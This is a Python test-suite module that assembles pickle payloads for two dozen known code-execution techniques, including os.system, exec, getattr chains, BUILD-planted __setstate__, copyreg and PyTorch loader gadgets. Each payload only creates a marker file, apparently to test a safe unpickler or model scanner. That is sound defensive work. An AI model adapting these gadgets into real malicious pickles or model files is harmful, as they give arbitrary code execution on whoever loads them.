"""Code-running pickle payloads, one per known technique. Each, if it ever ran, creates ``marker``.

Every emitter pushes exactly one value on the assembler's stack (the call's result), so a payload can be
placed anywhere a value is expected: at top level, as a dict value, inside module state.
``PAYLOADS`` maps a technique to ``(emit, min_protocol, max_protocol)``.
"""

from __future__ import annotations

from collections.abc import Callable

from testing.hostile.asm import Asm
from testing.hostile.zips import torch_zip

Emit = Callable[[Asm, str], None]


def _py(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def _sh(marker: str) -> str:
    return f"touch '{marker}'"


def _call_with(a: Asm, *args: str) -> None:
    """REDUCE the callable on top of the stack with string arguments."""
    a.mark()
    for s in args:
        a.string(s)
    a.tuple_().reduce()


def os_system(a: Asm, m: str) -> None:
    a.call("os", "system", _sh(m))


def posix_system(a: Asm, m: str) -> None:
    a.call("posix", "system", _sh(m))


def subprocess_popen(a: Asm, m: str) -> None:
    a.glob("subprocess", "check_call").mark().mark().string("touch").string(m).list_().tuple_().reduce()


def builtins_exec(a: Asm, m: str) -> None:
    a.call("builtins", "exec", _py(m))


def builtins_eval(a: Asm, m: str) -> None:
    a.call("builtins", "eval", _py(m))


def py2_builtin_eval(a: Asm, m: str) -> None:
    """``__builtin__`` is mapped to ``builtins`` by the unpickler's fix_imports (protocol < 3)."""
    a.call("__builtin__", "eval", _py(m))


def pkgutil_resolve_name(a: Asm, m: str) -> None:
    a.call("pkgutil", "resolve_name", "os:system")
    _call_with(a, _sh(m))


def importlib_getattr(a: Asm, m: str) -> None:
    a.glob("builtins", "getattr").mark()
    a.call("importlib", "import_module", "os")
    a.string("system").tuple_().reduce()
    _call_with(a, _sh(m))


def getattr_chain(a: Asm, m: str) -> None:
    """getattr(getattr(import_module('posixpath'), 'os'), 'system'): a module reached through another."""
    a.glob("builtins", "getattr").mark()
    a.glob("builtins", "getattr").mark()
    a.call("importlib", "import_module", "posixpath")
    a.string("os").tuple_().reduce()
    a.string("system").tuple_().reduce()
    _call_with(a, _sh(m))


def timeit_setup(a: Asm, m: str) -> None:
    a.call("timeit", "timeit", "pass", _py(m))


def pip_main(a: Asm, m: str) -> None:
    a.glob("pip", "main").mark().mark()
    for s in ("--log", m, "cache", "dir"):
        a.string(s)
    a.list_().tuple_().reduce()


def stack_global_memo(a: Asm, m: str) -> None:
    """Module and name strings parked in the memo inside an unrelated list, fetched later by index."""
    a.mark().string("os")
    mod = a.put()
    a.string("system")
    name = a.put()
    a.list_().pop()
    a.get(mod).get(name).stack_global()
    _call_with(a, _sh(m))


def operator_attrgetter(a: Asm, m: str) -> None:
    a.call("operator", "attrgetter", "system")
    a.mark()
    a.call("importlib", "import_module", "os")
    a.tuple_().reduce()
    _call_with(a, _sh(m))


def operator_methodcaller(a: Asm, m: str) -> None:
    a.call("operator", "methodcaller", "system", _sh(m))
    a.mark()
    a.call("importlib", "import_module", "os")
    a.tuple_().reduce()


def functools_partial(a: Asm, m: str) -> None:
    a.glob("functools", "partial").mark().glob("os", "system").string(_sh(m)).tuple_().reduce()
    a.empty_tuple().reduce()


def newobj_popen(a: Asm, m: str) -> None:
    """NEWOBJ of subprocess.Popen (only __new__), then its __init__ fetched with getattr and called."""
    a.glob("subprocess", "Popen")
    cls = a.put()
    a.mark().tuple_().newobj()
    inst = a.put()
    a.pop()
    a.glob("builtins", "getattr").mark().get(cls).string("__init__").tuple_().reduce()
    a.mark().get(inst).mark().string("touch").string(m).list_().tuple_().reduce()


def newobj_ex_popen(a: Asm, m: str) -> None:
    a.glob("subprocess", "Popen")
    cls = a.put()
    a.mark().tuple_().empty_dict().newobj_ex()
    inst = a.put()
    a.pop()
    a.glob("builtins", "getattr").mark().get(cls).string("__init__").tuple_().reduce()
    a.mark().get(inst).mark().string("touch").string(m).list_().tuple_().reduce()


def inst_opcode(a: Asm, m: str) -> None:
    a.mark().string(_sh(m)).inst("os", "system")


def obj_opcode(a: Asm, m: str) -> None:
    a.mark().global_opcode("os", "system").string(_sh(m)).obj()


def build_setstate(a: Asm, m: str) -> None:
    """An allowed OrderedDict gets ``__setstate__ = exec`` planted by one BUILD; the next BUILD calls it."""
    a.glob("collections", "OrderedDict").empty_tuple().reduce()
    a.mark().empty_dict().string("__setstate__").glob(
        "builtins", "exec"
    ).setitem().empty_dict().tuple_().build()
    a.string(_py(m)).build()


def copyreg_reconstructor(a: Asm, m: str) -> None:
    """copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state)."""
    a.glob("copyreg", "_reconstructor").mark().glob("subprocess", "Popen").glob("subprocess", "Popen")
    a.mark().string("touch").string(m).list_().tuple_().reduce()


def torch_prefix_os(a: Asm, m: str) -> None:
    """A dotted name under an allowed-looking module: torch.serialization's own ``os`` import."""
    a.glob("torch.serialization", "os.system")
    _call_with(a, _sh(m))


def rebuild_from_type_exec(a: Asm, m: str) -> None:
    """The legitimate _rebuild_from_type_v2 applies its first argument: exec passed as data."""
    a.glob("torch._tensor", "_rebuild_from_type_v2").mark()
    a.glob("builtins", "exec").glob("torch", "Tensor").mark().string(_py(m)).tuple_().empty_dict()
    a.tuple_().reduce()


def torch_load_from_bytes(a: Asm, m: str) -> None:
    """torch.storage._load_from_bytes = torch.load(weights_only=False) on bytes carried in the pickle."""
    inner = Asm(2)
    os_system(inner, m)
    a.glob("torch.storage", "_load_from_bytes").mark().raw_bytes(torch_zip(inner.bytes())).tuple_()
    a.reduce()


PAYLOADS: dict[str, tuple[Emit, int, int]] = {
    "os_system": (os_system, 0, 5),
    "posix_system": (posix_system, 0, 5),
    "subprocess": (subprocess_popen, 0, 5),
    "builtins_exec": (builtins_exec, 0, 5),
    "builtins_eval": (builtins_eval, 0, 5),
    "py2_builtin_eval": (py2_builtin_eval, 0, 2),
    "pkgutil_resolve_name": (pkgutil_resolve_name, 0, 5),
    "importlib_getattr": (importlib_getattr, 0, 5),
    "getattr_chain": (getattr_chain, 0, 5),
    "timeit": (timeit_setup, 0, 5),
    "pip_main": (pip_main, 0, 5),
    "stack_global_memo": (stack_global_memo, 4, 5),
    "operator_attrgetter": (operator_attrgetter, 0, 5),
    "operator_methodcaller": (operator_methodcaller, 0, 5),
    "functools_partial": (functools_partial, 1, 5),
    "newobj_popen": (newobj_popen, 2, 5),
    "newobj_ex_popen": (newobj_ex_popen, 4, 5),
    "inst_opcode": (inst_opcode, 0, 5),
    "obj_opcode": (obj_opcode, 1, 5),
    "build_setstate": (build_setstate, 1, 5),
    "copyreg_reconstructor": (copyreg_reconstructor, 0, 5),
    "torch_prefix_os": (torch_prefix_os, 4, 5),
    "rebuild_from_type_exec": (rebuild_from_type_exec, 1, 5),
    "torch_load_from_bytes": (torch_load_from_bytes, 2, 5),
}


def payload_pickle(technique: str, proto: int, marker: str) -> bytes:
    """A complete pickle whose only content is the payload."""
    emit, _, _ = PAYLOADS[technique]
    a = Asm(proto)
    emit(a, marker)
    return a.bytes()
